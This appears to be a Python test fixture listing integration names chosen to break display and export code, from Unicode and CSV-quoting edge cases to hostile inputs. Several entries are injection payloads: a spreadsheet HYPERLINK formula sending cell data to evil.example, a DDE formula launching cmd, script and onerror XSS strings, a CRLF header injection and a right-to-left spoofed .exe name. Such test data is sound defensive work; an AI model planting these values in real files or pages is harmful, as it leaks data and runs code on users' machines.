"""Names that people give to integrations, and names that attack whoever shows them."""

HOSTILE_NAMES = {
    "formula with =": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "formula with +": "+49 40 555 0100 hotline",
    "formula with -": "-1+1|cmd' /C calc'!A0",
    "formula with @": "@SUM(1+1)*cmd",
    "tab first": "\t=1+1",
    "script tag": "<script>alert(document.domain)</script>",
    "image tag": '<img src=x onerror="alert(1)"> logo upload',
    "line break": "Deploys\r\nX-Injected: yes",
    "right to left": "تنبيهات الدعم الفني \u202egnp.exe",
    "Chinese and Japanese": "运维告警 ・ 障害通知",
    "combining letters": "Cafe\u0301-Bestellungen Z\u0336a\u0336l\u0336g\u0336o\u0336",
    "emoji with joiners": "🧑\u200d🚒🏳️\u200d🌈 Incidents 👩🏽\u200d💻",
    "mathematics": r"Umsatz $x_1$ vs. \frac{a}{b} & 100 % {ok}",
    "quotes of CSV": 'He said "hi", then; left\n"',
    "very long": "Weekly status of the quarterly planning of the yearly review " * 9 + "end",
}
"""Names by what is special about them; each is the name of some integration with a script."""
